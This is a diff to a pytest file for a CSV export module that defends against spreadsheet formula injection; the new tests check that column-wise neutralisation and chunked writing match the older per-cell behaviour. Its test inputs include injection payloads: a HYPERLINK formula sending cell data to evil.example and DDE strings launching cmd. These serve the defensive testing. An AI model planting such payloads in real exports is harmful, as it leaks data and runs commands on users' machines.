@@ -7,7 +7,7 @@ import csv
 import pandas as pd
 import pytest
 
-from crmbridge.csvout import DANGEROUS, Writer, neutralise, read_frame, restore, write_frame
+from crmbridge.csvout import DANGEROUS, Writer, neutralise, neutralise_frame, read_frame, restore, write_csv, write_frame
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+8613812345678", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''", "'", "'plain",
@@ -59,3 +59,61 @@ def test_streaming_writer_is_inert(tmp_path):
     w.close()
     assert_inert(tmp_path / "r.csv")
     assert read_frame(tmp_path / "r.csv")["_raw"].tolist() == HOSTILE + [""]
+
+
+# ------------------------------------------------------------------ the column-wise path against the per-cell one
+
+
+def _old_neutralise_frame(df):
+    """The previous ``neutralise_frame``: ``neutralise`` cell by cell."""
+    out = df.copy()
+    for col in out.columns:
+        s = out[col]
+        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
+            out[col] = s.map(neutralise)
+    return out
+
+
+def _adversarial_frames():
+    import numpy as np
+
+    rng = np.random.default_rng(4)
+    cells = HOSTILE + [None, float("nan"), " ", "\u3000=1", "＝1", "-", "+", "@", "'", "'-", "'\t", "中=1", "=", "a\"b",
+                       "x\r\ny", "١٢", "\U0001f600", "é"]
+    text = pd.Series(rng.choice(np.array(cells, dtype=object), size=500), dtype=object)
+    yield pd.DataFrame({"a": text, "b": text.sample(frac=1, random_state=1).values, "_reason": "required_missing: x"})
+    yield pd.DataFrame({"s": text.astype("str"), "o": text})  # pandas' own text dtype next to object
+    yield pd.DataFrame({"mixed": pd.Series(["=1", 5, 1.5, None, "-x", True], dtype=object), "n": [1, 2, 3, 4, 5, 6],
+                        "f": [1.5, np.nan, -2.0, 3.0, 0.1, 1e20], "t": ["+1", "a", None, "b", "@c", ""]})
+    yield pd.DataFrame({"a": pd.Series([], dtype=object), "b": pd.Series([], dtype=object)})
+    yield pd.DataFrame({"a": pd.Series([None, None], dtype=object), "b": ["=x", "y"]})
+    yield pd.DataFrame({"a": ["=1", "b"], "b": ["x", "y"]}, index=[7, 7])  # repeated labels
+
+
+def test_column_wise_neutralisation_equals_the_per_cell_one():
+    for df in _adversarial_frames():
+        new, old = neutralise_frame(df), _old_neutralise_frame(df)
+        pd.testing.assert_frame_equal(new, old)
+        for c in range(df.shape[1]):  # value and type of every cell
+            assert [(type(x), x) for x in new.iloc[:, c].tolist() if x == x] == \
+                   [(type(x), x) for x in old.iloc[:, c].tolist() if x == x]
+
+
+@pytest.mark.parametrize("chunk", [10_000, 7])
+def test_write_csv_writes_the_bytes_pandas_wrote(tmp_path, monkeypatch, chunk):
+    import io
+
+    import crmbridge.csvout
+
+    monkeypatch.setattr(crmbridge.csvout, "CSV_CHUNK_ROWS", chunk)
+    for i, df in enumerate(_adversarial_frames()):
+        for header in (True, False):
+            fh = io.StringIO(newline="")
+            write_csv(df, fh, header=header)
+            ref = io.StringIO(newline="")
+            _old_neutralise_frame(df).to_csv(ref, index=False, header=header, quoting=csv.QUOTE_ALL)
+            assert fh.getvalue() == ref.getvalue(), i
+        path = write_frame(df, tmp_path / f"f{i}.csv")
+        ref_path = tmp_path / f"ref{i}.csv"
+        _old_neutralise_frame(df).to_csv(ref_path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
+        assert path.read_bytes() == ref_path.read_bytes(), i
